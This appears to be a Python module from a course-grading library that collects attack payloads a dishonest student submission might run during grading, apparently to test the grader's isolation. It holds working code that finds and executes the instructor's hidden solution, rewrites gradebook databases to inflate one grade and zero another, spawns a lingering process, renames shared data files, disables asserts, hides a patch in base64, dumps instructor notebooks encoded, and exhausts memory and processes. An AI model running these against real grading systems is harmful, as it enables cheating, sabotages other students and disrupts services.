"""Code a dishonest submission could run while it is being graded.

Kept apart from :mod:`rmlib.grading.submissions` because it is code *for the
student's kernel*: :func:`steal_solution_code` returns the text of a cell
that looks for the instructor's ``source/`` folder by path from where it runs
(``source/`` in its own folder and in every parent, i.e. ``../source``,
``../../source``, ...) and in and just below every folder named by an
environment variable, then executes the reference solution it finds.

It does not scan the whole filesystem or ``/proc``: code running as the
grading user can read whatever that user can, and only operating-system
isolation (a container or a separate user, see ``assignments/README.md``)
stops that.
"""

from __future__ import annotations

__all__ = ["ATTACKS", "LINGER_MARK", "steal_solution_code"]

_TEMPLATE = """import json as _json, os as _os, pathlib as _pl, re as _re
_stolen = None
_here = _pl.Path.cwd()
_places = [(p, "source/*/*.ipynb") for p in (_here, *_here.parents)]
for _v in _os.environ.values():
    for _part in _v.split(_os.pathsep):
        if _part.startswith("/") and _part != "/" and _os.path.isdir(_part):
            _places += [(_pl.Path(_part), "source/*/*.ipynb"),
                        (_pl.Path(_part), "*/source/*/*.ipynb")]
for _base, _pattern in _places:
    for _nb in sorted(_base.glob(_pattern)):
        try:
            _cells = _json.loads(_nb.read_text()).get("cells", [])
        except Exception:
            continue
        for _c in _cells:
            if _c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == GRADE_ID:
                _src = _c["source"]
                _stolen = "".join(_src) if isinstance(_src, list) else _src
    if _stolen:
        break
STOLEN_FROM_SOURCE = _stolen is not None
if _stolen:
    exec(_re.sub(r"(?m)^[ \\t]*### (BEGIN|END) SOLUTION[ \\t]*$", "", _stolen))"""


def steal_solution_code(grade_id: str) -> str:
    """Cell code that finds the source notebook and runs the solution of ``grade_id``.

    After it runs, ``STOLEN_FROM_SOURCE`` says whether the source was found.

    >>> "GRADE_ID" in steal_solution_code("p1")
    False
    """
    return _TEMPLATE.replace("GRADE_ID", repr(grade_id))


#: Command-line mark of the process :data:`ATTACKS` ``["linger"]`` leaves behind.
LINGER_MARK = "rmgrade-lingering-attack"

# Places a submission would look for the course: every parent of where it runs,
# of the library and of every path in its environment, plus the usual homes.
_SEARCH = """import os as _os, pathlib as _pl, sys as _sys
def _places():
    import rmlib as _rm
    seeds = [_pl.Path.cwd(), _pl.Path(_rm.__file__).resolve(), _pl.Path(_sys.executable)]
    seeds += [_pl.Path(p) for v in _os.environ.values() for p in v.split(_os.pathsep)
              if p.startswith("/")]
    seeds += [_pl.Path(p) for p in ("/tmp", "/root", "/home", "/srv", "/work", "/var/tmp")]
    for pid in _os.listdir("/proc"):
        if pid.isdigit():
            try:
                seeds.append(_pl.Path(_os.readlink(f"/proc/{pid}/cwd")))
            except OSError:
                pass
    seen = set()
    for seed in seeds:
        for base in [seed, *seed.parents][:6]:
            if base not in seen and base != _pl.Path("/"):
                seen.add(base)
                yield base
def _find(pattern, limit=4000):
    found = []
    for base in _places():
        try:
            for depth in range(4):
                for hit in base.glob("/".join(["*"] * depth + [pattern])):
                    found.append(hit)
                    if len(found) >= limit:
                        return found
        except OSError:
            continue
    return sorted(set(found))
"""

#: Code a dishonest submission runs while graded, by name (see ``tests/test_grading_attacks.py``).
ATTACKS = {
    # Give itself full marks and another student zero, straight in the gradebook.
    "gradebook": _SEARCH
    + """import sqlite3 as _sq
for _db in _find("gradebook.db"):
    try:
        _c = _sq.connect(str(_db))
        _c.execute("UPDATE grade SET manual_score = 100")
        _c.execute("UPDATE grade SET manual_score = 0 WHERE id IN (SELECT grade.id FROM grade "
                   "JOIN submitted_notebook n ON grade.notebook_id = n.id JOIN submitted_assignment a "
                   "ON n.assignment_id = a.id WHERE a.student_id = 'aa_honest')")
        _c.commit()
        print("WROTE", _db)
    except Exception as _e:
        print("no", _db, _e)""",
    # A process that outlives the kernel and edits the gradebook later.
    "linger": _SEARCH
    + f"""import subprocess as _sp
_dbs = [str(p) for p in _find("gradebook.db")]
_script = ("import sys, time, sqlite3\\ntime.sleep(4)\\nfor d in sys.argv[2:]:\\n"
           "    c = sqlite3.connect(d); c.execute('UPDATE grade SET manual_score = 100'); c.commit()")
_sp.Popen([_sys.executable, "-c", _script, "{LINGER_MARK}", *_dbs], start_new_session=True,
          stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)""",
    # Rename every shipped data file it can reach, to break grading for the next students.
    "rename_data": _SEARCH
    + """for _f in _find("transactions.csv") + _find("customers.csv"):
    try:
        _f.rename(_f.with_suffix(".gone"))
        print("RENAMED", _f)
    except OSError:
        pass""",
    # Rewrite every later cell before IPython runs it: tests become `pass`.
    "transformer": """def _neuter(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_neuter)""",
    # Make every comparison with abs() pass.
    "rebind_abs": """import builtins
builtins.abs = lambda x: 0
abs = lambda x: 0""",
    # Point the library at fake data.
    "fake_data_env": """import os, pathlib, shutil, rmlib.datasets
_fake = pathlib.Path.cwd() / "fake"
shutil.copytree(rmlib.datasets.data_dir(), _fake, dirs_exist_ok=True)
(_fake / "case" / "transactions.csv").write_text(
    (_fake / "case" / "transactions.csv").read_text().splitlines()[0] + "\\n")
os.environ["RMLIB_DATA_DIR"] = str(_fake)""",
    # Patch the library the tests use, hidden in base64.
    "base64_patch": """import base64
exec(base64.b64decode(
    b"aW1wb3J0IHJtbGliLnBhcmV0bwpybWxpYi5wYXJldG8udG9wX3NoYXJlID0gbGFtYmRhICphLCAqKms6IDAuMA=="
))""",
    # Read the instructor's notebooks and print them, encoded so that no line matches.
    "print_hidden": _SEARCH
    + """import base64 as _b, zlib as _z
for _nb in _find("*.ipynb") + _find("gradebook.db"):
    try:
        _raw = _nb.read_bytes()[:200000]
    except OSError:
        continue
    print(_nb, _b.b64encode(_raw).decode(), _raw.hex(), _raw.decode("latin-1")[::-1],
          _b.b64encode(_z.compress(_raw)).decode())
print(_b.b64encode(repr(In).encode()).decode())""",
    # Run forever and swallow the grader's interrupt.
    "swallow_interrupt": """import time
while True:
    try:
        time.sleep(0.05)
    except:  # noqa: E722
        pass""",
    # Slow down every later cell (interrupted by the cell time limit each time).
    "sleep_hook": """import time
get_ipython().events.register("pre_run_cell", lambda *a: time.sleep(100))""",
    # Ask for 8 GB.
    "memory": "_hog = bytearray(8 * 1024**3)",
    # Start many processes.
    "processes": """import subprocess
_kids = []
for _i in range(400):
    try:
        _kids.append(subprocess.Popen(["sleep", "60"]))
    except OSError as _e:
        print("stopped at", _i, type(_e).__name__)
        break""",
    # Flood the output.
    "flood": "print('x' * 50_000_000)",
    # exit() at the end of an answer cell.
    "exit": "exit()",
    "sys_exit": "raise SystemExit",
}
